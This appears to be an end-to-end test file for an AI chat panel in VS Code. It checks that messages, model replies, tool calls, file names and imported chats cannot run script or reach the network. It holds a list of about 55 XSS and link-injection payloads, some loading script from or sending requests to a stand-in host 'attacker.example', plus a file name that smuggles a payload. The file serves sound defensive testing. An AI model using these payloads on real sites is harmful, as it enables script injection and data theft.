import assert from "node:assert/strict";
import { rename, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { startModelServer, type ModelServer } from "../modelServer/modelServer.ts";
import { importMessages } from "./importing.ts";
import { Workbench } from "../vscode/workbench.ts";

const far = "https://attacker.example/stolen";

/** What would run, load or lead away if it reached the page as more than text: after DOMPurify's and OWASP's lists. */
const vectors = [
  "<script>window.hit=1</script>",
  "<script src=//attacker.example/x.js></script>",
  "<img src=x onerror=window.hit=1>",
  `<img src="${far}">`,
  `![picture](${far})`,
  `![picture](${far} "title")`,
  "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x></svg>",
  "<svg><script>window.hit=1</script></svg>",
  '<svg><a xlink:href="javascript:window.hit=1"><text y=20>go</text></a></svg>',
  `<svg><use href="${far}#x"/></svg>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<math href="javascript:window.hit=1">go</math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  "<a href=javascript:window.hit=1>go</a>",
  "[go](javascript:window.hit=1)",
  "[go](JaVaScRiPt:window.hit=1)",
  "[go](&#106;avascript:window.hit=1)",
  "[go](data:text/html,<script>window.hit=1</script>)",
  "[go](vbscript:msgbox)",
  "[go](command:workbench.action.closeWindow)",
  "[go](vscode://file/etc/passwd)",
  "[go](file:///etc/passwd)",
  `[go](//attacker.example)`,
  "<command:workbench.action.closeWindow>",
  "[a]: javascript:window.hit=1\n\n[a]",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  `<iframe src="${far}"></iframe><object data="${far}"></object><embed src="${far}">`,
  `<form action="${far}"><button formaction=javascript:window.hit=1>go</button></form>`,
  `<link rel=stylesheet href="${far}"><style>@import "${far}"; body{background:url(${far})}</style>`,
  `<meta http-equiv=refresh content="0;url=${far}"><base href="${far}">`,
  `<video src="${far}" autoplay onloadstart=window.hit=1></video><audio src="${far}"></audio>`,
  "<details open ontoggle=window.hit=1>x</details><body onload=window.hit=1>",
  '<div style="position:fixed;inset:0;background:url(https://attacker.example)">x</div>',
  "<input autofocus onfocus=window.hit=1><marquee onstart=window.hit=1>x</marquee>",
  "<longhand-message></longhand-message><template><script>window.hit=1</script></template>",
  "</article></main></body><script>window.hit=1</script>",
  '```html"><img src=x onerror=window.hit=1>\n<script>window.hit=1</script>\n```',
  "```<script>window.hit=1</script>\nx\n```",
  "| <img src=x onerror=window.hit=1> | b |\n| --- | --- |\n| <script>window.hit=1</script> | 2 |",
  '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
  '<math><mi//xlink:href="data:x,<script>window.hit=1</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hit=1 src>">',
  '<svg><desc><noscript><p id="</noscript><img src=x onerror=window.hit=1>"></desc></svg>',
  '<table><caption><svg><title><style><img title="</style><img src=x onerror=window.hit=1>"></caption></table>',
  '<a href="jav&#x09;ascript:window.hit=1">go</a> <a href=" &#14; javascript:window.hit=1">go</a>',
  "[go](jav\tascript:window.hit=1) [go](\u0001javascript:window.hit=1) [go](javascript&colon;window.hit=1)",
  '[go](https://a.example "onmouseover=window.hit=1")',
  "[go](command:longhand.export?%5B%7B%7D%5D) <https://a.example/><command:x>",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<div id=longhand-panel name=attributes><input name=attributes><img name=getElementById src=x></div>",
  '<x contenteditable autofocus onfocus=window.hit=1 style="animation-name:x" onanimationstart=window.hit=1>',
  "<isindex action=javascript:window.hit=1 type=image><xmp><script>window.hit=1</script></xmp><plaintext>",
  "${window.hit=1}{{constructor.constructor('window.hit=1')()}}",
];
const corpus = vectors.join("\n\n");

describe("What a model, a tool, a file or an import says", () => {
  let server: ModelServer;
  let workbench: Workbench;
  const requested: string[] = [];

  before(async function () {
    this.timeout(180_000);
    server = await startModelServer();
    const settings = { "longhand.baseUrl": server.url, "longhand.approval": "allowReads" };
    workbench = await Workbench.open({ settings });
    workbench.page.context().on("request", (request) => requested.push(request.url()));
    await workbench.showPanel();
  });

  after(async () => {
    await workbench.close();
    await server.close();
  });

  const isHarmless = async () => {
    await workbench.page.waitForTimeout(300);
    const found = await workbench.panel.locator("longhand-panel").evaluate((html) => {
      const windowOfPage = html.ownerDocument.defaultView as unknown as { readonly hit?: number };
      const all = [...html.getElementsByTagName("*")];
      const loading =
        "img,svg,math,iframe,object,embed,form[action],video,audio,base,link,template,style,meta";
      return {
        hit: windowOfPage.hit ?? 0,
        scripts: html.querySelectorAll("script").length,
        loading: [...html.querySelectorAll(loading)].map((one) => one.outerHTML.slice(0, 80)),
        handlers: all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith("on"))),
        links: [...html.querySelectorAll("a")]
          .map((link) => link.getAttribute("href") ?? "")
          .filter((href) => /^(javascript|data|vbscript|command|vscode|file):|^\/\//i.test(href)),
      };
    });
    assert.deepEqual(found, { hit: 0, scripts: 0, loading: [], handlers: [], links: [] });
    assert.deepEqual(
      requested.filter((url) => url.includes("attacker.example")),
      [],
    );
    await workbench.panel.getByRole("textbox", { name: "Message" }).waitFor();
  };
  const say = async (text: string) => {
    const box = workbench.panel.getByRole("textbox", { name: "Message" });
    await box.fill(text);
    await box.press("Enter");
    await workbench.panel.getByRole("article", { name: "Assistant" }).last().waitFor();
    await workbench.panel.getByRole("button", { name: "Send" }).waitFor();
  };

  it("is harmless in the user's message, which is the title too, and in a reply that streams", async () => {
    server.script({ text: corpus });
    await say(`<img src=x onerror=window.hit=1> ${corpus}`);
    await isHarmless();
    await workbench.screenshot("vectors");
  });

  it("is harmless in a tool's name, arguments and result, and in a file's name", async () => {
    const name = "<img src=x onerror=window.hit=1>.md";
    await writeFile(join(workbench.folders.workspace, "vectors.md"), corpus);
    await rename(join(workbench.folders.workspace, "vectors.md"), join(workbench.folders.workspace, name));
    server.script(
      {
        toolCalls: [
          { name: "read_file", arguments: { path: name } },
          { name: "list_files", arguments: { path: "." } },
        ],
      },
      { text: `See [the file](${encodeURI(name)}) and \`${name}\`.` },
    );
    await say("Read it");
    for (const tool of await workbench.panel
      .getByRole("article", { name: /^Tool/ })
      .locator("summary")
      .all()) {
      await tool.click();
    }
    await isHarmless();
  });

  it("is harmless in an import: title, messages and tool results, hidden or not", async () => {
    const call = {
      id: "c1",
      type: "function",
      function: { name: "<b>x</b>", arguments: JSON.stringify({ path: corpus }) },
    };
    const messages = [
      { role: "user", content: corpus },
      { role: "assistant", content: null, tool_calls: [call] },
      { role: "tool", tool_call_id: "c1", content: corpus },
      { role: "assistant", content: corpus },
    ];
    await importMessages(
      workbench,
      messages,
      "<img src=x onerror=window.hit=1><script>window.hit=1</script>",
    );
    await isHarmless();
    await workbench.panel.getByRole("button", { name: /Show breakdown/ }).click();
    await workbench.panel.getByRole("dialog").waitFor();
    await isHarmless();
    await workbench.page.keyboard.press("Escape");
  });

  it("leads nowhere when every link of it is clicked", async () => {
    const address = await workbench.panel
      .locator("html")
      .evaluate((html) => html.ownerDocument.location.href);
    for (const link of await workbench.panel.locator(".markdown a").all()) await link.dispatchEvent("click");
    await isHarmless();
    assert.equal(
      await workbench.panel.locator("html").evaluate((html) => html.ownerDocument.location.href),
      address,
    );
    assert.equal(workbench.page.context().pages().length, 1);
  });

  it("would be stopped by the page's policy, which allows neither inline code nor eval nor the network", async () => {
    const policy = (await workbench.panel.locator("meta[http-equiv]").getAttribute("content")) ?? "";
    assert.match(policy, /default-src 'none'/);
    assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval|connect-src|https:(?!\/\/\*\.vscode)/);
    const ran = await workbench.panel.locator("body").evaluate((body) => {
      const script = body.ownerDocument.createElement("script");
      script.textContent = "window.hit = 2";
      body.append(script);
      script.remove();
      return (body.ownerDocument.defaultView as unknown as { readonly hit?: number }).hit ?? 0;
    });
    assert.equal(ran, 0);
  });
});
